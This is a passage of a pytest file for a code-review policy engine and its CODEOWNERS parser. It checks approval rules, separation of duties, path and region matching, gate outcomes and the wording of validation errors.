"""The policy engine (loomtui.governance.policy), CODEOWNERS, and `loomtui policy validate | test`."""

from __future__ import annotations

import json
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

from loomtui.cli import main
from loomtui.errors import ConfigError
from loomtui.governance.codeowners import CodeOwners, OwnershipRule, parse_codeowners
from loomtui.governance.policy import (
    ChangeFacts,
    Evaluation,
    Policy,
    RegionGlob,
    Requirement,
    can_approve,
    can_override,
    combined,
    decision_met,
    default_policy,
    evaluate,
    groups_of,
    load_policy,
    load_policy_tests,
    parse_policy,
    parse_policy_tests,
    requirement_status,
    run_policy_case,
    with_held_elsewhere,
)

PATH = ".loom/policy.yaml"
FIXTURES = Path(__file__).parent / "fixtures" / "policy"
SAMPLE_REPO = Path(__file__).resolve().parent.parent / "sample_repo"

GROUPS = """\
version: 1
groups:
  payments: [alice@example.com, bob@example.com, erin@example.com]
  leads: [lead@example.com, mia@example.com]
  platform: [carol@example.com, grace@example.com]
"""


def policy_of(rules: str, head: str = GROUPS, root: Path | None = None) -> Policy:
    """A policy made of the standard groups and `rules` (YAML under `rules:`)."""
    return parse_policy(head + "rules:\n" + textwrap.indent(textwrap.dedent(rules), "  "), PATH, root)


def post(*paths: str, **facts: object) -> ChangeFacts:
    return ChangeFacts("post-gate", paths, **facts)  # type: ignore[arg-type]


def claim(*paths: str, **facts: object) -> ChangeFacts:
    return ChangeFacts("claim", paths, **facts)  # type: ignore[arg-type]


def error_of(text: str, root: Path | None = None) -> str:
    with pytest.raises(ConfigError) as info:
        parse_policy(textwrap.dedent(text), PATH, root)
    message = str(info.value)
    assert "\n" not in message
    return message


PAYMENTS_AND_DOCS = """\
- name: payments
  when: {paths: ["payments/**"]}
  risk: high
  decision: require
  approvals: {groups: [payments], count: 2}
- name: platform-review
  when: {paths: ["api/**", "payments/api.py"]}
  risk: medium
  decision: require
  approvals: {groups: [platform], count: 1}
- name: docs
  when: {paths: ["docs/**", "*.md"]}
  risk: low
  decision: auto_approve
- name: no-secrets
  when: {paths: ["**/*.pem"]}
  decision: block
"""


# --- semantics: block, require, auto_approve, default ---------------------------------


def test_block_beats_everything() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    evaluation = evaluate(policy, post("docs/a.md", "payments/api.py", "payments/key.pem"))
    assert evaluation.outcome == "block"
    assert evaluation.rule_names() == ("payments", "platform-review", "docs", "no-secrets")
    assert decision_met(policy, evaluation, ["bob@example.com", "erin@example.com", "carol@example.com"],
                        "alice@example.com") == (
        False, ["blocked by no-secrets: approvals cannot lift a block, only an override"])
    assert not can_approve(policy, "bob@example.com", evaluation, None)
    assert evaluation.explanation()[0] == (
        "block at post-gate (risk high): blocked by no-secrets (a block beats every other rule)")
    assert evaluation.explanation()[-1] == "  note: auto_approve (docs) does not hold: other rules block"


def test_each_require_must_be_met_on_its_own() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    evaluation = evaluate(policy, post("payments/api.py", author="alice@example.com"))
    assert evaluation.outcome == "require"
    assert [(r.rule, r.groups, r.count) for r in evaluation.requirements] == [
        ("payments", ("payments",), 2), ("platform-review", ("platform",), 1)]
    # Three approvals, but all from payments: the platform requirement is still unmet.
    met, lines = decision_met(policy, evaluation, ["bob@example.com", "erin@example.com", "mia@example.com"],
                              "alice@example.com")
    assert not met
    assert lines == [
        "met: payments: 2 of 2 approvals from payments (bob@example.com, erin@example.com)",
        "unmet: platform-review: 0 of 1 approval from platform",
    ]
    met, _ = decision_met(policy, evaluation, ["bob@example.com", "erin@example.com", "grace@example.com"],
                          "alice@example.com")
    assert met


def test_a_rule_that_asks_for_more_matches_a_path_in_any_letter_case_and_one_that_grants_does_not() -> None:
    # GNU make reads `makefile` before a protected `Makefile`; a case-insensitive checkout makes them one file.
    policy = policy_of(PAYMENTS_AND_DOCS + """\
- name: build
  when: {paths: ["Makefile", "ci/**", "!ci/notes.txt"]}
  decision: require
  approvals: {groups: [leads], count: 1}
""")
    shadow = evaluate(policy, post("makefile"))
    assert (shadow.outcome, shadow.rule_names()) == ("require", ("build", "default"))
    assert shadow.applied[0].why == (
        "paths Makefile, ci/**, !ci/notes.txt matched makefile (in another letter case)")
    assert evaluate(policy, post("Makefile")).applied[0].why == (
        "paths Makefile, ci/**, !ci/notes.txt matched Makefile")
    assert evaluate(policy, claim("PAYMENTS/api.py")).rule_names() == ("payments", "platform-review")
    assert evaluate(policy, post("keys/Server.PEM")).outcome == "block"
    assert evaluate(policy, post("Makefile")).rule_names() == ("build",)  # as written: the rule's alone
    assert evaluate(policy, post("CI/run.sh")).rule_names() == ("build", "default")
    assert evaluate(policy, post("CI/Notes.TXT")).rule_names() == ("default",)  # the negation folds too
    # Matched only in another letter case, a rule asks for more, never for less than the default would:
    # `API/handlers.py` needs platform's approval and the default's (it was platform's alone).
    loosened = evaluate(policy, post("API/handlers.py"))
    assert loosened.rule_names() == ("platform-review", "default"), loosened.rule_names()
    # An auto_approve rule stays exact: `Docs/` is not `docs/`, and gets the default.
    granted = evaluate(policy, post("Docs/guide.MD"))
    assert (granted.outcome, granted.rule_names()) == ("require", ("default",))


def test_one_person_in_two_groups_counts_toward_both() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS, head=GROUPS.replace("grace@example.com", "bob@example.com"))
    evaluation = evaluate(policy, post("payments/api.py"))
    assert decision_met(policy, evaluation, ["bob@example.com", "erin@example.com"], None)[0]


def test_auto_approve_holds_only_when_nothing_else_requires() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    alone = evaluate(policy, post("docs/guide.md", "README.md"))
    assert (alone.outcome, alone.risk, alone.rule_names(), alone.requirements) == (
        "auto_approve", "low", ("docs",), ())
    # Structure here; the wording is pinned by the golden cases (test_explanation_lists_every_applied_rule_and_why).
    headline, docs_line = alone.explanation()
    assert headline.startswith("auto_approve at post-gate") and "docs" in headline
    assert docs_line.startswith("  docs (auto_approve") and "README.md" in docs_line and "docs/guide.md" in docs_line
    assert decision_met(policy, alone, [], None) == (True, ["auto-approved: no approval needed"])
    mixed = evaluate(policy, post("docs/guide.md", "api/handlers.py"))
    assert (mixed.outcome, mixed.risk, mixed.rule_names()) == ("require", "medium", ("platform-review", "docs"))
    assert mixed.notes == ("auto_approve (docs) does not hold: other rules require approval",)


def test_a_path_no_auto_approve_rule_covers_gets_the_default() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    evaluation = evaluate(policy, post("docs/guide.md", "setup.cfg"))
    assert evaluation.outcome == "require"
    assert evaluation.rule_names() == ("docs", "default")
    assert evaluation.applied[-1].why == "no auto_approve rule covers setup.cfg"
    # No `default:` section: one approval from anyone listed in any group.
    assert evaluation.requirements == (Requirement(
        "default", ("leads", "payments", "platform"), 1,
        frozenset({"alice@example.com", "bob@example.com", "erin@example.com", "lead@example.com",
                   "mia@example.com", "carol@example.com", "grace@example.com"})),)


def test_no_rule_means_the_default_never_a_silent_pass() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS, head=GROUPS + "default: {approvals: {groups: [leads], count: 1}}\n")
    evaluation = evaluate(policy, post("setup.cfg", lines_changed=3))
    assert (evaluation.outcome, evaluation.risk) == ("require", "normal")
    assert [(r.name, r.decision) for r in evaluation.applied] == [("default", "require")]
    assert [(r.groups, r.count) for r in evaluation.requirements] == [(("leads",), 1)]
    assert evaluation.applied[0].requirement == evaluation.requirements[0]
    assert decision_met(policy, evaluation, ["lead@example.com"], "alice@example.com")[0]
    empty_change = evaluate(policy, post())
    assert empty_change.rule_names() == ("default",)


def test_the_default_can_block() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS, head=GROUPS + "default: {decision: block}\n")
    evaluation = evaluate(policy, post("setup.cfg"))
    assert (evaluation.outcome, evaluation.rule_names(), evaluation.requirements) == ("block", ("default",), ())


def test_without_a_policy_file_every_change_needs_one_approval_from_anyone(tmp_path: Path) -> None:
    policy = load_policy(tmp_path)
    assert policy == default_policy() and policy.source is None
    assert policy.summary() == "no policy file: the built-in default applies (every change: 1 approval from anyone)"
    evaluation = evaluate(policy, post("anything.py", author="dev@example.com"))
    assert evaluation.outcome == "require"
    (requirement,) = evaluation.requirements
    assert requirement.anyone and requirement.describe() == "1 approval from anyone"
    assert not decision_met(policy, evaluation, ["dev@example.com"], "dev@example.com")[0]
    assert decision_met(policy, evaluation, ["someone@example.com"], "dev@example.com")[0]
    assert can_approve(policy, "someone@example.com", evaluation, "dev@example.com")
    assert not can_approve(policy, "dev@example.com", evaluation, "dev@example.com")
    assert not can_override(policy, "someone@example.com")
    # A file there, but empty (or comments only), is a mistake: it would drop every rule, blocks too
    for empty in ("", "# nothing yet\n", "---\n"):
        with pytest.raises(ConfigError, match=f"^{PATH}:1: the policy is empty: give at least `version: 1`"):
            parse_policy(empty, PATH)


def test_explanation_lists_every_applied_rule_and_why() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS + """\
- name: ledger-signature
  when: {regions: ["payments/ledger.py::Ledger.*"], signature_changed: true}
  risk: critical
  decision: require
  approvals: {groups: [payments, leads], count: 1}
- name: big
  when: {lines_changed: {over: 400}}
  decision: require
  approvals: {groups: [leads], count: 1}
""")
    evaluation = evaluate(policy, post(
        regions=("payments/ledger.py::Ledger.post", "payments/ledger.py::Ledger.void"),
        signature_changed=("payments/ledger.py::Ledger.void",), lines_changed=512))
    assert evaluation.explanation() == [
        "require at post-gate (risk critical): 3 requirements, each to be met on its own",
        "  payments (require, risk high): paths payments/** matched payments/ledger.py",
        "    needs 2 approvals from payments",
        ("  ledger-signature (require, risk critical): changed regions payments/ledger.py::Ledger.post, "
        "payments/ledger.py::Ledger.void match payments/ledger.py::Ledger.*; "
        "signature changed: payments/ledger.py::Ledger.void"),
        "    needs 1 approval from payments or leads",
        "  big (require): 512 lines changed (over 400)",
        "    needs 1 approval from leads",
    ]
    assert [rule.risk for rule in evaluation.applied] == ["high", "critical", None]


def test_long_lists_are_shortened_in_explanations() -> None:
    evaluation = evaluate(policy_of(PAYMENTS_AND_DOCS), post(*(f"docs/{n}.md" for n in range(5))))
    assert evaluation.applied[0].why == "paths docs/**, *.md matched docs/0.md, docs/1.md, docs/2.md and 2 more"


def test_risk_is_the_highest_applied() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    assert evaluate(policy, post("api/a.py", "docs/a.md")).risk == "medium"
    assert evaluate(policy, post("api/a.py", "payments/a.py")).risk == "high"
    assert evaluate(policy, post("x/key.pem")).risk == "normal"  # the block rule names no risk


# --- stages ------------------------------------------------------------------------------


STAGED = """\
- name: claim-only
  stage: claim
  when: {paths: ["payments/**"]}
  risk: high
  decision: require
  approvals: {groups: [leads], count: 1}
- name: after-gates-only
  stage: post-gate
  when: {paths: ["api/**"]}
  decision: require
  approvals: {groups: [platform], count: 1}
- name: both-stages
  when: {paths: ["storage/**"]}
  decision: require
  approvals: {groups: [platform], count: 1}
- name: diff-facts
  when: {paths: ["storage/**"], lines_changed: {over: 0}}
  decision: block
"""


def test_a_rule_of_both_stages_asking_the_same_at_each_is_one_requirement_not_two() -> None:
    """An escalation listed `ground-truth` twice (once as "claim stage, not granted before") for the one
    approval that met both."""
    policy = policy_of("""\
- name: ground-truth
  when: {paths: ["AGENTS.md"]}
  decision: require
  approvals: {groups: [leads], count: 1}
- name: ledger-claims
  stage: claim
  when: {paths: ["ledger.py"]}
  decision: require
  approvals: {groups: [leads], count: 1}
""")
    after = evaluate(policy, post("AGENTS.md", "ledger.py"))
    claim_stage = evaluate(policy, claim("AGENTS.md", "ledger.py"))
    both = combined(after, claim_stage, "claim stage, not granted before")
    assert both.rule_names() == ("ground-truth", "default", "ledger-claims (claim stage, not granted before)")
    assert [r.rule for r in both.requirements] == ["ground-truth", "default",
                                                   "ledger-claims (claim stage, not granted before)"]


def test_stage_filtering() -> None:
    policy = policy_of(STAGED)
    at_claim = evaluate(policy, claim("payments/a.py", "api/b.py", "storage/c.py"))
    assert at_claim.stage == "claim"
    # Rules with diff facts (lines, gates, signatures) never apply at claim time.
    assert at_claim.rule_names() == ("claim-only", "both-stages")
    after = evaluate(policy, post("payments/a.py", "api/b.py", "storage/c.py", lines_changed=5))
    # payments/a.py has no rule after the gates (claim-only judged only the claim): the default does.
    assert after.rule_names() == ("after-gates-only", "both-stages", "diff-facts", "default")


def test_a_path_no_applying_rule_speaks_for_gets_the_default_beside_a_narrow_require() -> None:
    """A rule asking one of `platform` for tests/** let the production code changed beside the tests
    through with that approval alone: the code no rule covers needs the default's too."""
    policy = policy_of("""\
- name: tests-by-platform
  when: {paths: ["tests/**"]}
  decision: require
  approvals: {groups: [platform], count: 1}
""")
    both = evaluate(policy, post("tests/test_cli.py", "app/cli.py"))
    assert both.rule_names() == ("tests-by-platform", "default")
    assert "no rule covers app/cli.py" in " ".join(rule.why for rule in both.applied)
    assert [r.rule for r in both.requirements] == ["tests-by-platform", "default"]
    assert evaluate(policy, post("tests/test_cli.py")).rule_names() == ("tests-by-platform",)


def test_a_claim_no_rule_applies_to_proceeds_and_says_why() -> None:
    evaluation = evaluate(policy_of(STAGED), claim("api/b.py"))
    assert (evaluation.outcome, evaluation.applied, evaluation.risk) == ("auto_approve", (), "normal")
    assert evaluation.explanation() == [
        "auto_approve at claim (risk normal): no approval needed",
        "  note: no rule applies at claim time; the change is evaluated again after the gates",
    ]


def test_a_claim_covers_everything_nested_in_the_claimed_region() -> None:
    policy = policy_of("""\
- name: ledger
  when: {regions: ["payments/ledger.py::Ledger.post"]}
  decision: require
  approvals: {groups: [payments], count: 1}
""")
    for claimed in ("payments/ledger.py", "payments/ledger.py::Ledger", "payments/ledger.py::Ledger.post"):
        assert evaluate(policy, claim(regions=(claimed,))).rule_names() == ("ledger",), claimed
    for other in ("payments/ledger.py::Ledger.void", "payments/ledger.py::LedgerEntry", "payments/refunds.py"):
        assert evaluate(policy, claim(regions=(other,))).rule_names() == (), other
    # After the gates the diff names exact regions: the class's own region is not its method.
    assert evaluate(policy, post(regions=("payments/ledger.py::Ledger",))).rule_names() == ("default",)


# --- conditions -----------------------------------------------------------------------------


def test_region_globs() -> None:
    methods = RegionGlob.of("payments/ledger.py::Ledger.*")
    assert methods.matches("payments/ledger.py::Ledger.post")
    assert methods.matches("payments/ledger.py::Ledger.post.helper")  # `*` crosses dots
    assert not methods.matches("payments/ledger.py::Ledger")
    assert not methods.matches("payments/ledger.py::LedgerEntry.post")
    assert not methods.matches("other/payments/ledger.py::Ledger.post")  # the path part is anchored
    whole_files = RegionGlob.of("payments/*.py")
    assert whole_files.matches("payments/ledger.py") and whole_files.matches("payments/ledger.py::Ledger")
    assert not whole_files.matches("payments/sub/ledger.py::f")
    anywhere = RegionGlob.of("ledger.py::?edger")
    assert anywhere.matches("a/b/ledger.py::Ledger") and not anywhere.matches("a/ledger.py::Ledger.post")
    assert methods.covers("payments/ledger.py::Ledger") and not methods.covers("payments/ledger.py::Led")


SIGNATURES = """\
- name: api-signature
  when: {regions: ["payments/api.py::*"], signature_changed: true}
  decision: require
  approvals: {groups: [leads], count: 1}
- name: any-signature
  when: {signature_changed: true}
  decision: require
  approvals: {groups: [platform], count: 1}
- name: refactor
  when: {paths: ["payments/**"], signature_changed: false}
  decision: auto_approve
"""


def test_signature_changed() -> None:
    policy = policy_of(SIGNATURES)
    api = "payments/api.py::charge"
    assert evaluate(policy, post(regions=(api,), signature_changed=(api,))).rule_names() == (
        "api-signature", "any-signature")
    elsewhere = evaluate(policy, post(regions=(api, "payments/x.py::f"), signature_changed=("payments/x.py::f",)))
    assert elsewhere.rule_names() == ("any-signature",)
    body_only = evaluate(policy, post(regions=(api,)))
    assert (body_only.outcome, body_only.rule_names()) == ("auto_approve", ("refactor",))
    assert body_only.applied[0].why == "paths payments/** matched payments/api.py; no signature changed"
    assert evaluate(policy, claim(regions=(api,))).rule_names() == ()


@pytest.mark.parametrize(("lines", "applies"), [(400, False), (401, True), (999, True), (1000, False)])
def test_lines_changed_thresholds(lines: int, applies: bool) -> None:
    policy = policy_of("""\
- name: big
  when: {lines_changed: {over: 400, under: 1000}}
  decision: require
  approvals: {groups: [leads], count: 1}
""")
    assert ("big" in evaluate(policy, post("a.py", lines_changed=lines)).rule_names()) is applies


def test_gates_failed_and_passed() -> None:
    policy = policy_of("""\
- name: tests-failed
  when: {gates_failed: [tests]}
  decision: block
- name: anything-failed
  when: {gates_failed: ["*"]}
  risk: high
  decision: require
  approvals: {groups: [leads], count: 1}
- name: green
  when: {gates_passed: [tests, lint*]}
  decision: auto_approve
""")
    def names(gates: dict[str, str]) -> tuple[str, ...]:
        return evaluate(policy, post(gates=gates)).rule_names()

    assert names({"tests": "failed", "lint": "passed"}) == ("tests-failed", "anything-failed")
    assert names({"tests": "error"}) == ("tests-failed", "anything-failed")
    assert names({"tests": "passed", "lint-py": "error"}) == ("anything-failed",)
    assert names({"tests": "passed", "lint-py": "passed", "lint-md": "passed"}) == ("green",)
    assert names({"tests": "passed"}) == ("default",)  # no lint gate ran: not "passed"
    assert evaluate(policy, post(gates={"tests": "failed"})).applied[0].why == "gates did not pass: tests failed"
    # A `blocking: false` gate is advice: a glob does not match it (the starter's "red gates block" blocked a
    # change on a lint's word), its own name does.
    advised = post(gates={"tests": "passed", "lint-py": "failed"}, advisory_gates=frozenset({"lint-py"}))
    assert evaluate(policy, advised).rule_names() == ("default",)
    assert names({"tests": "passed", "lint-py": "failed"}) == ("anything-failed",)
    by_name = policy_of("- name: lint-said\n  when: {gates_failed: [lint-py]}\n  decision: block\n")
    assert evaluate(by_name, advised).rule_names() == ("lint-said",)


def test_runtime_and_labels() -> None:
    policy = policy_of("""\
- name: unreviewed-runtime
  when: {runtime: [aider, codex]}
  decision: require
  approvals: {groups: [leads], count: 1}
- name: hotfix
  when: {labels: hotfix, runtime: claude}
  risk: critical
  decision: require
  approvals: {groups: [leads], count: 2}
""")
    assert evaluate(policy, post("a.py", runtime="codex")).rule_names() == ("unreviewed-runtime",)
    hotfix = evaluate(policy, post("a.py", runtime="claude", labels=("urgent", "hotfix")))
    assert hotfix.rule_names() == ("hotfix",)
    assert hotfix.applied[0].why == "runtime claude; label hotfix"
    assert evaluate(policy, post("a.py", labels=("hotfix",))).rule_names() == ("default",)
    assert evaluate(policy, claim("a.py", runtime="aider")).rule_names() == ("unreviewed-runtime",)


def test_path_globs_are_gitignore_style_with_negation() -> None:
    policy = policy_of("""\
- name: docs-but-not-adrs
  when: {paths: ["docs/", "!docs/adr/"]}
  decision: auto_approve
""")
    assert evaluate(policy, post("docs/guide/intro.md")).outcome == "auto_approve"
    assert evaluate(policy, post("docs/adr/0001.md")).rule_names() == ("default",)
    # A region's file counts as a changed path.
    assert evaluate(policy, post(regions=("docs/conf.py::setup",))).outcome == "auto_approve"


def test_a_regions_rule_auto_approves_a_file_only_when_every_changed_region_matches() -> None:
    policy = policy_of("""\
- name: test-helpers
  when: {regions: ["tests/**::helper_*"]}
  decision: auto_approve
""")
    assert evaluate(policy, post(regions=("tests/util.py::helper_a", "tests/util.py::helper_b"))).outcome == (
        "auto_approve")
    mixed = evaluate(policy, post(regions=("tests/util.py::helper_a", "tests/util.py::fixture")))
    assert mixed.rule_names() == ("test-helpers", "default")
    assert mixed.applied[1].why == "no auto_approve rule covers tests/util.py"


# --- approvals: separation of duties, counting, groups, overrides ------------------------------


def test_separation_of_duties_excludes_the_author() -> None:
    requirement = Requirement("payments", ("payments",), 2,
                              frozenset({"alice@example.com", "bob@example.com", "erin@example.com"}))
    assert requirement_status(requirement, ["alice@example.com", "bob@example.com"], "alice@example.com", True) == (
        False, ("1 of 2 approvals from payments (bob@example.com); "
               "the author's own approval does not count (separation of duties)"))
    assert requirement_status(requirement, ["alice@example.com", "bob@example.com"], "alice@example.com", False) == (
        True, "2 of 2 approvals from payments (alice@example.com, bob@example.com)")


def test_approvals_count_distinct_members_case_insensitively() -> None:
    requirement = Requirement("payments", ("payments",), 2,
                              frozenset({"alice@example.com", "bob@example.com", "erin@example.com"}))
    assert requirement_status(requirement, ["Bob@Example.com", "bob@example.com", "lead@example.com"], None, True) == (
        False, "1 of 2 approvals from payments (bob@example.com)")
    assert requirement_status(requirement, ["bob@example.com", "ERIN@example.com", "alice@example.com"], None,
                              True) == (True, ("2 of 2 approvals from payments "
                                              "(alice@example.com, bob@example.com, erin@example.com)"))


def test_groups_of_and_can_override() -> None:
    policy = parse_policy(GROUPS + "overrides: {groups: [leads], max_hours: 48}\n", PATH)
    assert groups_of(policy, "Mia@Example.com ") == frozenset({"leads"})
    assert groups_of(policy, "stranger@example.com") == frozenset()
    assert policy.overrides.max_hours == 48 and policy.override_groups == ("leads",)
    assert can_override(policy, "lead@example.com") and not can_override(policy, "alice@example.com")
    assert not can_override(parse_policy(GROUPS, PATH), "lead@example.com")  # no overrides: nobody


def test_can_approve() -> None:
    policy = policy_of(PAYMENTS_AND_DOCS)
    evaluation = evaluate(policy, post("payments/api.py", author="alice@example.com"))
    author = "alice@example.com"
    assert can_approve(policy, "bob@example.com", evaluation, author)
    assert can_approve(policy, "carol@example.com", evaluation, author)
    assert not can_approve(policy, "alice@example.com", evaluation, author)  # the author, under SoD
    assert not can_approve(policy, "lead@example.com", evaluation, author)  # in no required group
    assert not can_approve(policy, "bob@example.com", evaluation, author, approvals=["bob@example.com"])
    # The platform requirement is met: carol's second platform approval would add nothing.
    assert not can_approve(policy, "grace@example.com", evaluation, author, approvals=["carol@example.com"])
    assert not can_approve(policy, "bob@example.com", evaluate(policy, post("docs/a.md")), author)
    no_sod = policy_of(PAYMENTS_AND_DOCS, head=GROUPS + "separation_of_duties: false\n")
    assert can_approve(no_sod, "alice@example.com", evaluate(no_sod, post("payments/a.py")), author)


# --- CODEOWNERS -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def github_example() -> CodeOwners:
    return parse_codeowners((FIXTURES / "CODEOWNERS.github").read_text(), "CODEOWNERS")


def line_of(codeowners: CodeOwners, pattern: str) -> OwnershipRule:
    return next(rule for rule in codeowners.rules if rule.pattern == pattern)


def test_codeowners_last_matching_pattern_wins(github_example: CodeOwners) -> None:
    owners = github_example.owners_of
    assert owners("README.md") == ("@global-owner1", "@global-owner2")
    assert owners("src/app.js") == ("@js-owner",)  # not the global owners; the comment is not an owner
    assert owners("cmd/main.go") == ("docs@example.com",)
    assert owners("notes/todo.txt") == ("@octo-org/octocats",)
    assert owners("scripts/deploy.sh") == ("@doctocat", "@octocat")
    assert owners("build/logs/today.log") == ("@octocat",)  # `**/logs` comes after `/build/logs/`
    assert owners("deeply/nested/logs/x.txt") == ("@octocat",)
    assert owners("docs/build-app/troubleshooting.md") == ("@doctocat",)  # `/docs/` comes after `docs/*`
    assert owners("apps/web/index.js") == ("@octocat",)
    assert owners("apps/github/readme.txt") == ("@doctocat",)  # its own owner, the last line
    assert github_example.rule_for("apps/github/readme.txt").line == 45  # type: ignore[union-attr]


def test_codeowners_patterns_as_documented(github_example: CodeOwners) -> None:
    build_logs = line_of(github_example, "/build/logs/")
    assert build_logs.matches("build/logs/a.log") and build_logs.matches("build/logs/deep/er/a.log")
    assert not build_logs.matches("src/build/logs/a.log")
    docs_star = line_of(github_example, "docs/*")
    assert docs_star.matches("docs/getting-started.md")
    assert not docs_star.matches("docs/build-app/troubleshooting.md")
    apps = line_of(github_example, "apps/")
    assert apps.matches("apps/a.py") and apps.matches("src/deep/apps/b.py")
    assert not apps.matches("myapps/a.py") and not apps.matches("apps")
    root_docs = line_of(github_example, "/docs/")
    assert root_docs.matches("docs/build-app/troubleshooting.md") and not root_docs.matches("src/docs/a.md")
    logs = line_of(github_example, "**/logs")
    assert all(logs.matches(f"{d}/logs/x") for d in ("build", "scripts", "deeply/nested"))
    assert line_of(github_example, "*.js").matches("a/b/c.js")


def test_codeowners_more_patterns() -> None:
    codeowners = parse_codeowners(textwrap.dedent("""\
        /docs/**/x.md  @deep
        /*             @top
        *              @all
        /*             @top
        /apps/ @octocat
        /apps/github
    """), "CODEOWNERS")
    assert line_of(codeowners, "/docs/**/x.md").matches("docs/x.md")
    assert line_of(codeowners, "/docs/**/x.md").matches("docs/a/b/x.md")
    assert not line_of(codeowners, "/docs/**/x.md").matches("docs/a/y.md")
    assert codeowners.owners_of("setup.py") == ("@top",)  # `/*`: files at the root only
    assert codeowners.owners_of("src/setup.py") == ("@all",)
    assert codeowners.owners_of("apps/web/a.py") == ("@octocat",)
    # A pattern with no owners removes ownership.
    assert codeowners.owners_of("apps/github/a.py") == ()
    assert codeowners.rule_for("apps/github/a.py") == codeowners.rules[-1]
    assert codeowners.all_owners() == frozenset({"@deep", "@top", "@all", "@octocat"})


@pytest.mark.parametrize(("text", "message"), [
    ("*.js @js-owner\n!vendor/ @x\n", "CODEOWNERS:2: !vendor/: negation (!) is not supported in CODEOWNERS"),
    ("\n*.[ch] @c-team\n", "CODEOWNERS:2: *.[ch]: character ranges ([ ]) are not supported in CODEOWNERS"),
    ("*.py js-owner\n", "CODEOWNERS:1: invalid owner 'js-owner' (use @user, @org/team or an email address)"),
    ("a/***/b @x\n", "CODEOWNERS:1: a/***/b: a pattern cannot contain three consecutive asterisks"),
])
def test_codeowners_errors_name_file_and_line(text: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_codeowners(text, "CODEOWNERS")
    assert str(info.value) == message


def test_codeowners_in_the_policy() -> None:
    policy = load_policy(FIXTURES, "policy.yaml")
    assert policy.warnings == ()
    evaluation = evaluate(policy, post("web/auth/login.py", "web/app.py", "web/ui.py", "shared/x.py",
                                       "shared/vendor/lib.py", author="wes@example.com"))
    assert [(r.groups, r.paths, r.eligible) for r in evaluation.requirements] == [
        (("web", "payments"), ("shared/x.py",), frozenset({
            "wes@example.com", "wanda@example.com", "alice@example.com", "bob@example.com",
            "erin@example.com"})),
        (("web",), ("web/app.py", "web/ui.py"), frozenset({"wes@example.com", "wanda@example.com"})),
        # `@acme/security` is the group `security`; an email owner approves as itself.
        (("security", "sec-lead@example.com"), ("web/auth/login.py",),
         frozenset({"sec@example.com", "sec-lead@example.com"})),
        (("leads",), (), frozenset({"lead@example.com", "mia@example.com"})),
    ]
    assert evaluation.applied[-1].why == "owners-review asks for code owners, and shared/vendor/lib.py has none"
    assert evaluation.requirements[2].describe() == (
        "1 approval from the code owners of web/auth/login.py (security or sec-lead@example.com)")
    met, lines = decision_met(policy, evaluation, ["wes@example.com", "wanda@example.com", "sec-lead@example.com",
                                                   "mia@example.com"], "wes@example.com")
    assert met, lines


def test_unknown_code_owners_are_warnings(tmp_path: Path) -> None:
    (tmp_path / "CODEOWNERS").write_text("*  @leads\n/web/  @webteam someone@example.com\n")
    policy = parse_policy(GROUPS + "codeowners: CODEOWNERS\n", PATH, tmp_path)
    assert policy.warnings == (
        "CODEOWNERS:2: owner @webteam is not a group in .loom/policy.yaml, so no one can approve as it",)
    not_read = parse_policy(GROUPS + "codeowners: CODEOWNERS\n", PATH)
    assert not_read.codeowners is None
    assert not_read.warnings == (".loom/policy.yaml:6: codeowners: CODEOWNERS not read (no repository root given)",)


# --- validation: every error with file:line --------------------------------------------------------


RULE = """\
rules:
  - name: r
    when: {paths: ["a/**"]}
    decision: require
    approvals: {groups: [leads], count: 1}
"""


@pytest.mark.parametrize(("text", "message"), [
    ("groups: [\n", ".loom/policy.yaml:1: invalid YAML"),  # its one line, not the stream end past it
    ("version: 2\n", ".loom/policy.yaml:1: version: unsupported version 2"),
    ("grups: {}\n", ".loom/policy.yaml:1: grups: unknown key (did you mean 'groups'?)"),
    (GROUPS + RULE.replace("decision: require", "decison: require"),
     ".loom/policy.yaml:9: rules[0].decison: unknown key (did you mean 'decision'?)"),
    (GROUPS + RULE.replace("paths:", "path:"),
     ".loom/policy.yaml:8: rules[0].when.path: unknown key (did you mean 'paths'?)"),
    (GROUPS + RULE.replace("decision: require", "decision: aprove"),
     ".loom/policy.yaml:9: rules[0].decision: must be one of auto_approve, require, block (got 'aprove'"),
    (GROUPS + RULE.replace("decision: require", "decision: requir"),
     "rules[0].decision: must be one of auto_approve, require, block (got 'requir'; did you mean 'require'?)"),
    (GROUPS + RULE.replace("groups: [leads]", "groups: [lead]"),
     (".loom/policy.yaml:10: rules[0].approvals.groups[0]: unknown group 'lead' "
     "(defined: leads, payments, platform; did you mean 'leads'?)")),
    (GROUPS + RULE.replace("count: 1", "count: 0"),
     ".loom/policy.yaml:10: rules[0].approvals.count: must be at least 1 (got 0)"),
    (GROUPS + RULE.replace('"a/**"', '"docs/[ab"'),
     ".loom/policy.yaml:8: rules[0].when.paths[0]: invalid glob 'docs/[ab': it can never match a path"),
    (GROUPS + RULE.replace('"a/**"', '"#notes"'),
     ".loom/policy.yaml:8: rules[0].when.paths[0]: invalid glob '#notes': it is a comment"),
    (GROUPS + RULE.replace('"a/**"', '"!a/**"'),
     ".loom/policy.yaml:8: rules[0].when.paths: every glob is a negation (!), so no path can match"),
    (GROUPS + RULE.replace('paths: ["a/**"]', 'regions: ["a.py::X::y"]'),
     ".loom/policy.yaml:8: rules[0].when.regions[0]: invalid region glob 'a.py::X::y': '::' may appear once"),
    (GROUPS + RULE.replace('paths: ["a/**"]', 'regions: ["a.py::[XY]"]'),
     "rules[0].when.regions[0]: invalid region glob 'a.py::[XY]': use only * and ? after '::'"),
    (GROUPS + RULE.replace('paths: ["a/**"]', 'regions: ["a.py::"]'),
     "rules[0].when.regions[0]: invalid region glob 'a.py::': nothing after '::'"),
    (GROUPS + RULE.replace('{paths: ["a/**"]}', "{}"), ".loom/policy.yaml:8: rules[0].when: must name at least one"),
    (GROUPS + RULE.replace("    approvals: {groups: [leads], count: 1}\n", ""),
     ".loom/policy.yaml:9: rules[0].decision: a require rule needs `approvals`"),
    (GROUPS + RULE.replace("decision: require", "decision: block"),
